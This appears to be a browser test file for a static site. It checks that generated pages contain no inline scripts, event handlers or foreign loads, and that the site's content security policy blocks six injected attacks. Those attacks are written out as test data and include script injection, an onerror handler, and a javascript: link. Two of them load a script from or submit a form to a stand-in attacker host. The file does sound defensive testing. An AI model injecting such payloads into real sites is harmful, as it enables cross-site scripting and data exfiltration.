/** Nothing runs but the site's own script, nothing is loaded from elsewhere, and the pages obey their own policy. */
import { describe, expect, test } from "vitest";
import { MARK } from "../pipeline/hostile.js";
import { writtenPages } from "./crawl.js";
import { siteNamed, useBrowser, visit } from "./visit.js";

useBrowser();

describe.each(["below", "hostile", "empty"] as const)("the site '%s'", (name) => {
  test("runs nothing of its articles, leaves its origin nowhere, breaks no rule and logs no error", async () => {
    const site = siteNamed(name);
    const { page, faults, close } = await visit(site);
    for (const path of await writtenPages(site)) {
      const url = site.origin + site.base + path;
      await page.goto(url, { waitUntil: "load" });
      expect(page.url()).toBe(url);
      expect(await page.evaluate((mark) => mark in globalThis, MARK)).toBe(false);
      const foreign = await page.evaluate(() =>
        [
          ...document.querySelectorAll(
            "script:not([src]):not([type='application/ld+json']), style, iframe, object, embed, base, [style]",
          ),
        ].map((element) => element.outerHTML.slice(0, 200)),
      );
      expect(foreign).toEqual([]);
      const handlers = await page.evaluate(() =>
        [...document.querySelectorAll("*")].flatMap((element) =>
          element.getAttributeNames().filter((attribute) => attribute.startsWith("on")),
        ),
      );
      expect(handlers).toEqual([]);
    }
    expect(faults).toEqual([]);
    await close();
  });
});

test.each([
  [
    "an inline script",
    `const s = document.createElement("script"); s.textContent = "window.${MARK} = 1"; document.body.append(s);`,
  ],
  [
    "a handler in markup",
    `document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.${MARK} = 1">');`,
  ],
  [
    "a script from elsewhere",
    `const s = document.createElement("script"); s.src = "https://evil.example/x.js"; document.body.append(s);`,
  ],
  [
    "a javascript: link",
    `document.body.insertAdjacentHTML("beforeend", '<a id="trap" href="javascript:void(window.${MARK} = 1)">x</a>'); document.querySelector("#trap").click();`,
  ],
  [
    "a frame",
    `const f = document.createElement("iframe"); f.srcdoc = "<script>parent.${MARK} = 1</" + "script>"; document.body.append(f);`,
  ],
  [
    "a form to elsewhere",
    `document.body.insertAdjacentHTML("beforeend", '<form id="trap" action="https://evil.example/"></form>'); document.querySelector("#trap").requestSubmit();`,
  ],
])("the policy stops %s, should one ever come through", async (_, attack) => {
  const site = siteNamed("news");
  const { page, faults, close } = await visit(site);
  await page.goto(site.origin + site.base);
  await page.evaluate(attack);
  await expect.poll(() => faults.some((fault) => fault.startsWith("policy:"))).toBe(true);
  expect(await page.evaluate((mark) => mark in globalThis, MARK)).toBe(false);
  expect(page.url()).toBe(site.origin + site.base);
  expect(faults.filter((fault) => fault.startsWith("request to"))).toEqual([]);
  await close();
});
